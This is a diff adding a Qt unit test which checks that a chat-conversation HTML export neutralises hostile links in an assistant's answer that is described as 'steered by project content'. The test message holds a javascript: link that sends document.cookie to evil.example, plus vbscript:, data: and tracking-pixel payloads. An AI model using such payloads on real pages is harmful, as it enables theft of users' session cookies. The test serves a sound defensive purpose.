@@ -55,7 +55,28 @@ private slots:
     void htmlIsAStandalonePageWithHighlightableCode();
     void jsonRoundTripsEveryVersion();
     void foreignOrDamagedJsonIsRefused();
+    void hostileLinksInAnAnswerNeitherRunNorLoad();
 };
+
+// An answer steered by project content: the exported page keeps the words,
+// runs no link and fetches no image when opened.
+void tst_ConversationExport::hostileLinksInAnAnswerNeitherRunNorLoad()
+{
+    TestWorkspace ws;
+    ConversationStore store(ws.db());
+    const Conversation conv = *store.create(QStringLiteral("Steered"));
+    const Message question = *store.append(make(conv.id, {}, ChatMessage::Role::User, QStringLiteral("Summarise README")));
+    (void)store.append(make(conv.id, question.id, ChatMessage::Role::Assistant,
+                            QStringLiteral("[Click here](JAVASCRIPT:fetch('//evil.example/'+document.cookie)) "
+                                           "<vbscript:msgbox> ![pixel](https://evil.example/track.png?id=1) [ref][r]\n\n[r]: data:text/html,x")));
+    const QString html = ConversationExport::toHtml(*store.find(conv.id), *store.thread(conv.id));
+    QVERIFY2(!html.contains(QStringLiteral("href=\"javascript"), Qt::CaseInsensitive), qPrintable(html));
+    QVERIFY(!html.contains(QStringLiteral("href=\"vbscript"), Qt::CaseInsensitive));
+    QVERIFY(!html.contains(QStringLiteral("href=\"data:"), Qt::CaseInsensitive));
+    QVERIFY(!html.contains(QStringLiteral("<img"), Qt::CaseInsensitive));
+    QVERIFY(html.contains(QStringLiteral("<a href=\"https://evil.example/track.png?id=1\">pixel</a>")));
+    QVERIFY(html.contains(QStringLiteral("Click here")));
+}
 
 void tst_ConversationExport::markdownShowsTheThreadWithSpeakersContextAndStatus()
 {
